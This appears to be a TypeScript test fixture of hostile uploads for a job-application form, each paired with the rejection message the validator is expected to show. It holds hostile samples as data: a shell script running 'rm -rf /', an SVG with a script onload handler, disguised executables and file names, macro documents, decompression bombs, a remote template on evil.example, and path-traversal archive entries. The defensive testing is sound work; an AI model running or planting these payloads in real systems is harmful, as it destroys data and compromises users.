import {
  docWithMacros,
  docxThatFetches,
  docxWith,
  docxWithMacros,
  docxWithRenamedMacros,
  hugeDocx,
  pngOfSize,
} from '@test/support/badFiles'
import { docBytes, fileOf, zipBytes } from '@test/support/builders'
import { type Hostile, APPLICATION_WARNING, application, resume, internship, enquiry } from './request'

const bomb = (name: string) =>
  `${name} is too large when unpacked. Please save it again and choose the new file.`

const remote = (name: string) =>
  `${name} loads a template or an object from elsewhere. Please save it without that and choose it again.`

const macros = (name: string) => `${name} contains macros. Please save it without them and choose it again.`

const program = (name: string) =>
  `${name} contains a program or another file. Please save it without that and choose it again.`

const PHOTO_WARNING = 'Please select a .jpg or .png file. Other types of files are not allowed.'

export const PROGRAM = Buffer.from('4d5a90000300000004000000ffff0000', 'hex')
const ELF = Buffer.from('7f454c4602010100', 'hex')
const SCRIPT = Buffer.from('#!/bin/sh\nrm -rf /\n')
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
const HUGE = pngOfSize(100_000, 100_000)
const JAVA = zipBytes({ 'META-INF/MANIFEST.MF': 'Main-Class: X', 'X.class': 'x' })

const programs: [string, Buffer][] = [
  ['a program', PROGRAM],
  ['a program of Linux', ELF],
  ['a script', SCRIPT],
  ['a Java archive', JAVA],
]

export const files: Hostile[] = [
  ...programs.flatMap(([what, bytes]) => [
    application(`${what} named .docx`, { resume: fileOf(bytes, 'cv.docx') }, program('cv.docx')),
    resume(`${what} named .doc`, { resume: fileOf(bytes, 'CV.DOC') }, program('CV.DOC')),
    enquiry(`${what} named .pdf`, { company_attachment: fileOf(bytes, 'a.pdf') }, program('a.pdf')),
    internship(`${what} named .png`, { photo: fileOf(bytes, 'me.png') }, program('me.png')),
  ]),
  ...[
    'cv.exe',
    'cv.docm',
    'cv.doc.js',
    'cv.docx.',
    'cv.dοc',
    'cv.exe\0.doc.exe',
    'cv.docx:stream',
    'cv%2edocx',
  ].map((name) =>
    application(
      `the name ${JSON.stringify(name)}`,
      { resume: fileOf(docBytes(), name) },
      APPLICATION_WARNING,
    ),
  ),
  application('a drawing as a photo', { photo: fileOf(SVG, 'me.svg') }, PHOTO_WARNING),
  resume('macros in a part', { resume: fileOf(docxWithMacros(), 'cv.docx') }, macros('cv.docx')),
  internship('macros in a .doc', { resume: fileOf(docWithMacros(), 'cv.doc') }, macros('cv.doc')),
  enquiry('macros', { company_attachment: fileOf(docxWithMacros(), 'a.docx') }, macros('a.docx')),
  application(
    'macros under another name',
    { resume: fileOf(docxWithRenamedMacros(), 'cv.docx') },
    macros('cv.docx'),
  ),
  application('an archive of a gigabyte', { resume: fileOf(hugeDocx(), 'cv.docx') }, bomb('cv.docx')),
  application('a picture of ten milliard points', { photo: fileOf(HUGE, 'me.png') }, bomb('me.png')),
  application(
    'a template of the internet',
    { resume: fileOf(docxThatFetches('attachedTemplate', 'https://evil.example/a.dotm'), 'cv.docx') },
    remote('cv.docx'),
  ),
  ...['../../evil.exe', '/etc/passwd', 'word/a\0.xml'].map((name) =>
    application(
      `a part named ${JSON.stringify(name)}`,
      { resume: fileOf(docxWith({ name, content: SCRIPT }), 'cv.docx') },
      program('cv.docx'),
    ),
  ),
  application(
    'a resume of one byte too many',
    { resume: fileOf(docBytes(5 * 1024 * 1024 + 1), 'cv.doc') },
    'cv.doc is too large. The limit is 5 MB.',
    413,
  ),
  application('an empty resume', { resume: new File([], 'cv.doc') }, 'cv.doc is empty.'),
]
